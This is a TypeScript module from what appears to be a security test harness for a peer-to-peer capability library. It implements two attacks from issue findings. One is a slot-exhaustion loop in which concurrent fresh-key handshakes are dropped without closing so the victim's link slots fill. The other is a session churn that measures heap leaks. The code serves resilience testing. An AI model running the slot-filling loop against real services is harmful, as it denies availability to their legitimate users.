/**
 * Attacks with many sessions (issue 17, findings 8 and 10): fresh keys that fill the victim's
 * link slots and leave, and honest-looking peers that come, hold, release and close cleanly.
 */
import { startPeer } from "@capbus/node";
import { type AttackContext, count, needUrl } from "./context.js";
import { RawSession } from "./raw-session.js";

/** Handshakes under way at once. */
const CONCURRENCY = 32;

/**
 * Finding 8 (no capability): fresh key after fresh key does the handshake and drops the socket
 * with no close, so the victim keeps the session through its grace (30 s at the defaults). Over
 * maxLinks (1024) of them hold every slot; the churn goes on for the whole run.
 */
export async function linkSlots(ctx: AttackContext): Promise<void> {
  const figures = ctx.figures;
  figures.sessions = 0;
  const one = async () => {
    try {
      const session = await RawSession.open(ctx.endpoint, { timeoutMs: 5_000 });
      if (await session.admitted(1_000)) count(figures, "sessions");
      else count(figures, `refused ${session.closed?.code ?? "silent"}`);
      session.drop();
    } catch (error) {
      const code = /refused: (\w+)/.exec(String(error))?.[1] ?? "other";
      count(figures, `refused ${code}`);
    }
  };
  const workers = Array.from({ length: CONCURRENCY }, async () => {
    while (!ctx.stopped()) await one();
  });
  await Promise.all(workers);
}

/**
 * Finding 10 (holds the capability, behaves): peer after peer, each with a fresh key, imports the
 * URL, sends the victim one message carrying a handle to a node of its own (the victim releases
 * it), and closes cleanly (destroying that node). Four at a time. The harness compares the
 * victim's heap after a full GC before and after.
 */
export async function leaks(ctx: AttackContext): Promise<void> {
  const url = needUrl(ctx);
  const figures = ctx.figures;
  figures.sessions = 0;
  const one = async () => {
    const started = await startPeer({ trace: undefined, listen: [] });
    try {
      const victim = await started.peer.import(url);
      const own = started.peer.createNode();
      await started.peer.send(victim, "a handle for you", { handles: [own.handle] });
      await started.close();
      count(figures, "sessions");
    } catch (error) {
      count(figures, `failed ${String(error).slice(0, 40)}`);
      started.peer.abort();
      await started.close().catch(() => undefined);
    }
  };
  // Warm-up: the harness marks the victim's heap again after it (AttackSpec.warmup).
  const started = Date.now();
  let warmed = false;
  const warm = () => {
    const sessions = Number(figures.sessions ?? 0);
    if (warmed || Date.now() - started < WARMUP_MS || sessions < WARMUP_SESSIONS) return;
    warmed = true;
    figures.warmupSessions = sessions;
    ctx.tell({ warmed: sessions });
  };
  const workers = Array.from({ length: 4 }, async () => {
    while (!ctx.stopped()) {
      await one();
      warm();
    }
  });
  await Promise.all(workers);
}

/**
 * The leaks attack counts sessions once both have passed: V8 compiles the session paths' hot
 * functions over the first hundreds of sessions, on a loaded machine well after 3 s.
 */
const WARMUP_MS = 3_000;
const WARMUP_SESSIONS = 800;
